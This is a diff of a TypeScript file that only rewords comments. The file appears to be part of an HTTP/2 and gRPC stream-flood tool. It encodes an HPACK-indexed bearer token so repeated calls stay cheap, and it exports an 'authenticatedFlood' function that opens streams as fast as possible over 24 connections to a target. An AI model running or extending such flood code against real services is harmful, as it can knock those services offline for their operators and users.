@@ -4,18 +4,18 @@ import { addressOf, isOpened, open, write } from './connection.ts';
 import { callTo, flags, uint32, frame, preface, types } from './frames.ts';
 import { field, framed, methods, varint } from './grpc.ts';
 
-/** How many streams are opened in one write. */
+/** Streams opened per write. */
 const perWrite = 1_000;
 
-/** A header whose value HPACK puts into its table, where it has the index 62 (RFC 7541, section 6.2.1). */
+/** A header that HPACK indexes as 62 (RFC 7541, section 6.2.1). */
 function authorization(token: string): Buffer {
   const value = Buffer.from(`Bearer ${token}`);
-  // 0x57: added to the table, with the name at index 23. 0x7f: the length, less 127, follows.
+  // 0x57: indexed, with the name at index 23. 0x7f: the length minus 127 follows.
   return Buffer.concat([Buffer.from([0x57, 0x7f]), varint(value.length - 127), value]);
 }
 
 const list = callTo(methods.list);
-/** With the token out of the table. */
+/** With the token from the dynamic table. */
 const again = Buffer.concat([list, Buffer.from([0xbe])]);
 
 type Kind = 'lists' | 'endless' | 'resets' | 'anonymous';
@@ -27,7 +27,7 @@ function streamOf(kind: Kind, stream: number, message: Buffer): Buffer {
   return Buffer.concat([headers, frame(types.data, flags.endStream, stream, message)]);
 }
 
-/** Resolves when the first call is answered; false when the connection was closed before. */
+/** Resolves when the first call is answered; false if the connection closed before. */
 function answered(socket: Socket): Promise<boolean> {
   return new Promise((resolve) => {
     let rest = Buffer.alloc(0);
@@ -42,7 +42,7 @@ function answered(socket: Socket): Promise<boolean> {
   });
 }
 
-/** Opens as many streams as it can over 24 connections, on each of which one call was authenticated. */
+/** Opens streams as fast as possible over 24 connections, each with one authenticated call. */
 export async function authenticatedFlood(attack: Attack): Promise<void> {
   const { target, counter, signal } = attack;
   const kinds: readonly Kind[] = ['lists', 'endless', 'resets', 'anonymous'];
